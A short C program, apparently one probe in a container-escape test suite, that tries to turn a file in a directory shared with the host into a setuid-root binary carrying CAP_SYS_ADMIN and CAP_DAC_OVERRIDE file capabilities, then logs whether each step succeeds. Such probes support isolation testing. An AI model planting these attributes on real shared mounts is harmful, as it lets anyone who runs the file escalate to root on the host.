// D33, C17: gives a file of a shared directory what would make its runner root: the setuid bit and
// file capabilities, in the name of the container's root.
#include <linux/capability.h>
#include <sys/xattr.h>

#include "escape.h"

int main(int argc, char **argv) {
  if (argc < 2) return 64;
  struct vfs_cap_data caps = {.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE};
  caps.data[0].permitted = 1u << CAP_SYS_ADMIN;
  caps.data[0].inheritable = 0;
  caps.data[0].permitted |= 1u << CAP_DAC_OVERRIDE;
  say(chown(argv[1], 0, 0), "chown");
  say(chmod(argv[1], 04755), "chmod_setuid");
  say(setxattr(argv[1], "security.capability", &caps, XATTR_CAPS_SZ_2, 0), "setxattr_capability");
  say(setxattr(argv[1], "trusted.overlay.opaque", "y", 1, 0), "setxattr_trusted");
  say(chown(argv[1], 70000, 70000), "chown_unmapped");
  return 0;
}
